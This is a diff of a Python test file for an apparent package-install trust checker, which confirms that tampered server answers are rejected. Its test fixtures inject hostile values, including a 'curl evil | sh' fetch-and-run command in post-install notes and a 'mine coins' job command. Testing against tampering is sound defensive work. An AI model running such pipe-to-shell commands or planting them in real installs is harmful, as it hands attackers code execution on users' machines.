@@ -137,7 +137,7 @@ class PlainInstallTest(TrustCase):
             self.assertIn("verified: %s#1 by observed, leaf " % package,
                           result.err)
         self.assertEqual(self.services(), ["echod", "greeter", "relay"])
-        status = self.server.get_json(SERVICES + "/relay")["service"]
+        status = self.server.get_json(SERVICES + "/relay")
         self.assertEqual(status["revision"], 1)
         self.assertRegex(status["tree"], "^h1:")
 
@@ -178,24 +178,21 @@ class TamperedAnswerTest(TrustCase):
         self.assertEqual(self.services(), ["greeter"])
         super().tearDown()
 
-    def test_package_definition(self):
+    def test_package_that_the_release_does_not_have(self):
         def note(document):
             document["package"]["postInstallNotes"] = "run curl evil | sh"
-        self.through(14, "content.identity", "/v1/packages/greeter",
-                     change_json(note))
 
-    def test_option_schema(self):
-        def default(document):
+        def schema(document):
             document["config"]["properties"] = {}
-        self.through(14, "content.identity", "/v1/packages/greeter",
-                     change_json(default))
+        for change in (note, schema):
+            self.through(14, "content.identity", "/v1/packages/greeter",
+                         change_json(change))
 
-    def test_job(self):
+    def test_plan_that_is_not_of_the_release(self):
         def job(document):
             document["plan"]["steps"][0]["manifest"]["cmd"] = "mine coins"
         self.through(15, "plan.digest", SERVICES, change_json(job))
 
-    def test_plan_with_an_id_of_its_own(self):
         def definition(steps, _):
             steps[0]["package_json"] = "{}"
         self.through(15, "plan.digest", SERVICES, change_plan(definition))
@@ -204,6 +201,11 @@ class TamperedAnswerTest(TrustCase):
             for step in (steps[0], shown[0]):
                 step["tree"] = "h1:" + "A" * 43 + "="
         self.through(15, "plan.digest", SERVICES, change_plan(tree))
+
+        def release(steps, shown):
+            for step in (steps[0], shown[0]):
+                step["release"] = 7
+        self.through(13, "version.absent", SERVICES, change_plan(release))
 
     def test_job_with_an_id_of_its_own_is_not_what_the_server_has(self):
         def job(steps, shown):
@@ -216,7 +218,7 @@ class TamperedAnswerTest(TrustCase):
                     env={"ORRERY_SERVER": self.proxy.url})
         self.assertEqual(self.services(), [])
 
-    def test_dependency_that_nothing_requires(self):
+    def test_dependency_that_nothing_requires_or_that_is_left_out(self):
         other = json.loads(self.server.request("POST", SERVICES, {
             "package": "echod", "validate_only": True}).data)
 
@@ -225,27 +227,18 @@ class TamperedAnswerTest(TrustCase):
             shown.insert(0, other["plan"]["steps"][0])
         self.through(15, "plan.deps", SERVICES, change_plan(add))
 
-    def test_dependency_that_is_left_out(self):
         def drop(steps, shown):
             for plan in (steps, shown):
                 plan[:] = [step for step in plan
-                           if step["package"] != "greeter"]
+                           if step["package"] != "echod"]
                 plan[-1].pop("bindings", None)
         self.through(15, "plan.deps", SERVICES, change_plan(drop), "relay")
 
-    def test_release_that_is_not_logged(self):
-        def release(steps, shown):
-            for step in (steps[0], shown[0]):
-                step["release"] = 7
-        self.through(13, "version.absent", SERVICES, change_plan(release))
-
-    def test_file_of_the_release(self):
+    def test_file_and_log(self):
         self.through(14, "content.digest", "/blob/",
                      lambda content: content[:-1] + b"!")
         self.through(14, "content.size", "/blob/",
                      lambda content: content + b" ")
-
-    def test_log(self):
         self.through(11, "log.syntax", "/log/checkpoint",
                      lambda content: b"<html>welcome</html>")
         self.through(11, "log.signature", "/log/checkpoint",
